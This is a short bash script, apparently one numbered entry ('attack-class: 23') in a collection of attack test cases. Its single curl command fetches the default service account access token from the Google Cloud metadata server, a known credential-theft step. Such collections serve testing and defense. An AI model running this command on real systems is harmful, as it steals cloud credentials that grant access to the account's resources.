#!/usr/bin/env bash
# attack-class: 23
# title: curl the GCP metadata server with its header
# why: metadata access by host name

curl -s -H 'Metadata-Flavor: Google' \
  http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
